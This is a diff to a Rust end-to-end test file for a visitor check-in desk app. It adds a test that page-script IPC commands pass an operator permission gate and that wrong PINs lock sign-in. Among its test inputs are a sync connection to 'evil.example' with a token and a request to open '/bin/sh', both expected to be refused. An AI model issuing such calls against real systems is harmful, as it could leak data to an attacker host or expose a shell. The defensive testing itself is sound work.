@@ -11,7 +11,7 @@ const ELDER: &str = "11010519491231002X";
 const WANG: &str = "410202199003070014";
 const LIU: &str = "410202198501190014";
 
-/// A desk database with a served venue and one operator (张敏, PIN 2468); `people` are declared
+/// A desk database with a served venue and one operator (张敏, PIN 246813); `people` are declared
 /// beforehand through the core, as returning visitors.
 fn seed(data: &Path, people: &[(&str, &str)]) {
     let (mut store, _, op) =
@@ -265,10 +265,56 @@ async fn a_new_desk_creates_its_first_operator() -> WebDriverResult<()> {
     let desk = Desk::start(&dir.path().join("desk")).await?;
     desk.testid("nav-checkin").await?.click().await?;
     type_into(&desk, "first-operator-name", "张敏").await?;
-    type_into(&desk, "first-operator-pin", "2468").await?;
-    type_into(&desk, "first-operator-pin2", "2468").await?;
+    type_into(&desk, "first-operator-pin", "246813").await?;
+    type_into(&desk, "first-operator-pin2", "246813").await?;
     desk.testid("first-operator-submit").await?.click().await?;
     let who = desk.wait_text("current-operator", "张敏").await?;
     assert!(who.contains("张敏"), "{who:?}");
+    desk.quit().await
+}
+
+/// The gate sits in the real IPC path: script in the window calling commands directly gets
+/// signed_out without an operator, forbidden for the administrator's work as a clerk, and
+/// the clerk's own work goes through; wrong PINs lock the desk out.
+#[tokio::test]
+async fn commands_called_from_the_page_pass_the_gate() -> WebDriverResult<()> {
+    use serde_json::json;
+    let dir = tempfile::tempdir().expect("temp dir");
+    let data = dir.path().join("desk");
+    let (mut store, _, _) =
+        seed_desk(&data, &[venue("general", "market", "西司门农贸市场", "鼓楼区西司门街12号")], true);
+    store.add_operator("李娜", "135792").expect("second operator");
+    drop(store);
+    let desk = Desk::start(&data).await?;
+    desk.testid("signin-operator").await?;
+
+    assert_eq!(desk.invoke("today", json!({ "query": "" })).await?, Err("signed_out".into()));
+    assert_eq!(desk.invoke("incidents", json!({})).await?, Err("signed_out".into()));
+    assert_eq!(
+        desk.invoke("add_operator", json!({ "name": "黑客", "pin": "864209" })).await?,
+        Err("signed_out".into())
+    );
+    assert_eq!(desk.invoke("no_such_command", json!({})).await?, Err("forbidden".into()));
+    assert!(desk.invoke("served_venue", json!({})).await?.is_ok(), "the header's own data stays open");
+
+    let clerk = desk.invoke("sign_in", json!({ "name": "李娜", "pin": "135792" })).await?;
+    assert_eq!(clerk.map(|o| o["is_admin"].clone()), Ok(json!(false)));
+    assert!(desk.invoke("today", json!({ "query": "" })).await?.is_ok());
+    for (cmd, args) in [
+        ("add_operator", json!({ "name": "黑客", "pin": "864209" })),
+        ("set_idle_minutes", json!({ "minutes": 120 })),
+        ("set_risk_max_age", json!({ "hours": 9999 })),
+        ("sync_connect", json!({ "url": "https://evil.example", "token": "x", "caFile": null })),
+        ("open_file", json!({ "path": "/bin/sh" })),
+    ] {
+        assert_eq!(desk.invoke(cmd, args).await?, Err("forbidden".into()), "{cmd}");
+    }
+
+    // Five wrong PINs, then even the right one waits.
+    assert_eq!(desk.invoke("sign_out", json!({})).await?, Ok(json!(null)));
+    for _ in 0..5 {
+        assert_eq!(desk.invoke("sign_in", json!({ "name": OPERATOR, "pin": "000001" })).await?, Err("invalid".into()));
+    }
+    assert_eq!(desk.invoke("sign_in", json!({ "name": OPERATOR, "pin": PIN })).await?, Err("invalid".into()));
     desk.quit().await
 }
